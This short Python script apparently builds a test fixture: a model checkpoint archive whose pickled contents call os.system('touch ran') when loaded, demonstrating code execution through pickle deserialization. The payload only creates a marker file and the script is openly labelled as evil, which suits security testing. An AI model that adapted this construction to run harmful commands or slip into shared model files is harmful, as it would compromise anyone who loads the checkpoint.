"""A checkpoint that would create a file named `ran` wherever Python loads it: evil.ckpt. Do not.

    python evil.py
"""

import os
import pathlib
import pickle
import zipfile


class Evil:
    def __reduce__(self):
        return os.system, ("touch ran",)


with zipfile.ZipFile(pathlib.Path(__file__).parent / "evil.ckpt", "w") as file:
    file.writestr("archive/data.pkl", pickle.dumps({"state_dict": {}, "callbacks": Evil()}, protocol=2))
    file.writestr("archive/version", "3")
